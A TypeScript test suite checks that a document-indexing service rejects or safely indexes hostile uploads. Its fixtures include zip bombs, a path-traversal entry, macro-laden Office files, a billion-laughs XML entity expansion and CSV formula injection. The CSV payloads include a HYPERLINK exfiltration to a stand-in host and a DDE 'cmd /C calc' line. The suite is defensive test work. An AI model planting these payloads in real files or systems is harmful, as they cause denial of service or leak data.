import {
  DocumentIndexed,
  DocumentsGet,
  DocumentsSubmit,
  PassagesRetrieved,
  RetrievePassages,
} from '@chassis/contracts';
import { docxOf, paragraph, pdfOf, rawPdf, xlsxOf, zipOf } from '@chassis/documents/fixtures';
import { retriever } from '@chassis/retriever';
import { startLine, type TestLine } from '@chassis/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const excel = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const megabyte = 1024 * 1024;

let line: TestLine;
let ada: string;
beforeAll(async () => {
  line = await startLine({ services: [retriever], settings: { CHASSIS_MODELS_DIR: '/nowhere' } });
  ada = await line.principal('demo', 'user:ada');
});
afterAll(async () => await line.stop());

/** What the document says of itself once its job has ended; and an ordinary one is indexed right behind it. */
async function stateOf(id: string, content: string | Uint8Array, mediaType: string) {
  const add = async (name: string, bytes: string | Uint8Array, type: string) => {
    const stored = await line.payloads.put('demo', bytes, 'internal');
    const given = { id: name, mediaType: type, content: stored, rights: { allow: ['tenant'] } };
    await line.call(DocumentsSubmit, given, { as: ada });
    await line.next(DocumentIndexed, (one) => one.document === name);
    return await line.call(DocumentsGet, { document: name }, { as: ada });
  };
  const found = await add(id, content, mediaType);
  expect(await add(`behind-${id}`, `The valve behind ${id} is shut.`, 'text/plain')).toMatchObject({
    state: 'indexed',
  });
  return found;
}

async function textOf(question: string): Promise<string> {
  const asked = { question: await line.payloads.put('demo', question, 'internal'), limit: 1, budgetTokens: 900 };
  const { passages } = await line.ask(RetrievePassages, PassagesRetrieved, asked, { as: ada });
  return passages[0] === undefined ? '' : JSON.stringify(await line.payloads.getJson('demo', passages[0].text));
}

const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`,
).join('')}]>`;
const macros = [{ name: 'word/vbaProject.bin', content: 'x' }];
const compound = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]);

describe('a hostile document', () => {
  it.each<[string, () => Promise<Uint8Array> | Uint8Array, string, string]>([
    [
      'zip-bomb',
      () => docxOf(paragraph('a'), [{ name: 'word/a.xml', content: Buffer.alloc(160 * megabyte), claimedBytes: 10 }]),
      word,
      'document-unsafe',
    ],
    [
      'zip-bomb-by-claim',
      () => xlsxOf([['a']], [{ name: 'xl/a.xml', content: '', claimedBytes: 4_000 * megabyte }]),
      excel,
      'document-unsafe',
    ],
    [
      'countless-parts',
      () =>
        docxOf(
          paragraph('a'),
          Array.from({ length: 6_000 }, (_, at) => ({ name: `word/${at}`, content: '' })),
        ),
      word,
      'document-unsafe',
    ],
    ['traversal', () => docxOf(paragraph('a'), [{ name: '../../etc/x', content: 'x' }]), word, 'document-unsafe'],
    ['macros', () => docxOf(paragraph('a'), macros), word, 'document-macros'],
    [
      'macro-format',
      () => docxOf(paragraph('a'), macros),
      'application/vnd.ms-word.document.macroEnabled.12',
      'document-macros',
    ],
    ['old-office', () => compound, word, 'unsupported-media-type'],
    [
      'locked-office',
      () => Buffer.concat([compound, Buffer.from('EncryptedPackage', 'utf16le')]),
      word,
      'document-encrypted',
    ],
    [
      'locked-pdf',
      async () => await pdfOf((document) => document.text('x'), { userPassword: 'p', ownerPassword: 'p' }),
      'application/pdf',
      'document-encrypted',
    ],
    [
      'cut-pdf',
      async () => (await pdfOf((document) => document.text('x'))).subarray(0, 90),
      'application/pdf',
      'document-broken',
    ],
    ['archive', () => zipOf([{ name: 'a.txt', content: 'a' }]), 'application/zip', 'unsupported-media-type'],
    ['xml', () => Buffer.from(`${laughs}<x>&lol9;</x>`), 'application/xml', 'unsupported-media-type'],
    ['deep-json', () => Buffer.from('['.repeat(100_000) + ']'.repeat(100_000)), 'application/json', 'document-unsafe'],
    ['endless-text', () => Buffer.alloc(9 * megabyte, 'word '), 'text/plain', 'document-too-large'],
    ['nothing', () => Buffer.from(' \n '), 'text/plain', 'document-empty'],
    ['garbled', () => Buffer.from('xkq\ufffd\ufffd\ufffdzrwk '.repeat(400)), 'text/plain', 'document-garbled'],
  ])('%s ends as failed, with its code and what to do', async (id, content, mediaType, code) => {
    const found = await stateOf(id, await content(), mediaType);
    expect([found.state, found.code]).toEqual(['failed', code]);
    expect(found.detail).toMatch(/\w+ \w+/);
    expect(found.chunks).toBe(0);
  });

  it('of pages that hold themselves, or claim to be countless, ends as failed', async () => {
    const loop = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']);
    const countless = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 2000000000 >>']);
    for (const [id, file] of [
      ['loop', loop],
      ['countless', countless],
    ] as const) {
      const { state, code } = await stateOf(id, file, 'application/pdf');
      expect([state, code]).toEqual(['failed', expect.stringMatching(/^document-(?:broken|empty|timeout|too-large)$/)]);
    }
  });

  it('whose XML laughs a billion times has no more text than it carries', async () => {
    const { state, code, chunks } = await stateOf('laughs', docxOf(paragraph('before &lol9; after'), [], laughs), word);
    if (state === 'failed') expect(code).toMatch(/^document-(?:broken|empty|unsafe)$/);
    else expect(chunks).toBe(1);
    expect(['failed', 'indexed']).toContain(state);
  });
});

describe('an odd document', () => {
  it('of 300 pages is indexed with all of them', async () => {
    const long = await pdfOf((document) => {
      document.text('Page 1 of the manual');
      for (let page = 2; page <= 300; page += 1) document.addPage().text(`Page ${page} of the manual`);
      document.text('The last page names the cobalt lever.');
    });
    expect(await stateOf('long-pdf', long, 'application/pdf')).toMatchObject({ state: 'indexed', pages: 300 });
    expect(await textOf('cobalt lever')).toContain('cobalt lever');
  });

  it('of formulas keeps them as text that nothing calculates', async () => {
    const csv = 'name,note\nTopaz,"=HYPERLINK(""http://x.example/?""&A1)"\nBob,+1+cmd|\' /C calc\'!A0\n';
    expect(await stateOf('formulas', csv, 'text/csv')).toMatchObject({ state: 'indexed' });
    expect(await textOf('Topaz')).toContain('Topaz | =HYPERLINK');
  });

  it('of another charset, or of two at once, is indexed with its letters', async () => {
    const wide = Buffer.from('Das Rhönrad steht in Fürth.', 'utf16le');
    const latin = Buffer.from('Der Köcher hängt in Mölln.', 'latin1');
    const mixed = Buffer.concat([
      Buffer.from('Die Möwe über Büsum schreit, '),
      Buffer.from([0xfc]),
      Buffer.from(' laut.'),
    ]);
    for (const [id, bytes, word_] of [
      ['wide', wide, 'Rhönrad'],
      ['latin', latin, 'Köcher'],
      ['mixed', mixed, 'Möwe'],
    ] as const) {
      expect(await stateOf(id, bytes, 'text/plain')).toMatchObject({ state: 'indexed' });
      expect(await textOf(word_)).toContain(word_);
    }
  });

  it('that is a mail is indexed with what hangs on it, and says what could not be read', async () => {
    const part = (name: string, type: string, bytes: Uint8Array) =>
      `--b\r\nContent-Type: ${type}; name=${name}\r\nContent-Disposition: attachment; filename=${name}\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(bytes).toString('base64')}\r\n`;
    const bomb = docxOf(paragraph('a'), [{ name: 'word/a.xml', content: '', claimedBytes: 4_000 * megabyte }]);
    const mail = `From: ada@kunde.example\r\nTo: service@nordwerk.example\r\nSubject: The malachite order\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee the lists.\r\n${part('list.xlsx', excel, xlsxOf([['Malachite', 7]]))}${part('bomb.docx', word, bomb)}--b--\r\n`;
    expect(await stateOf('mail', mail, 'message/rfc822')).toMatchObject({
      state: 'indexed',
      title: 'The malachite order',
    });
    const text = await textOf('malachite');
    expect(text).toContain('Malachite | 7');
    expect(text).toContain('attachment not read: broken');
  });
});
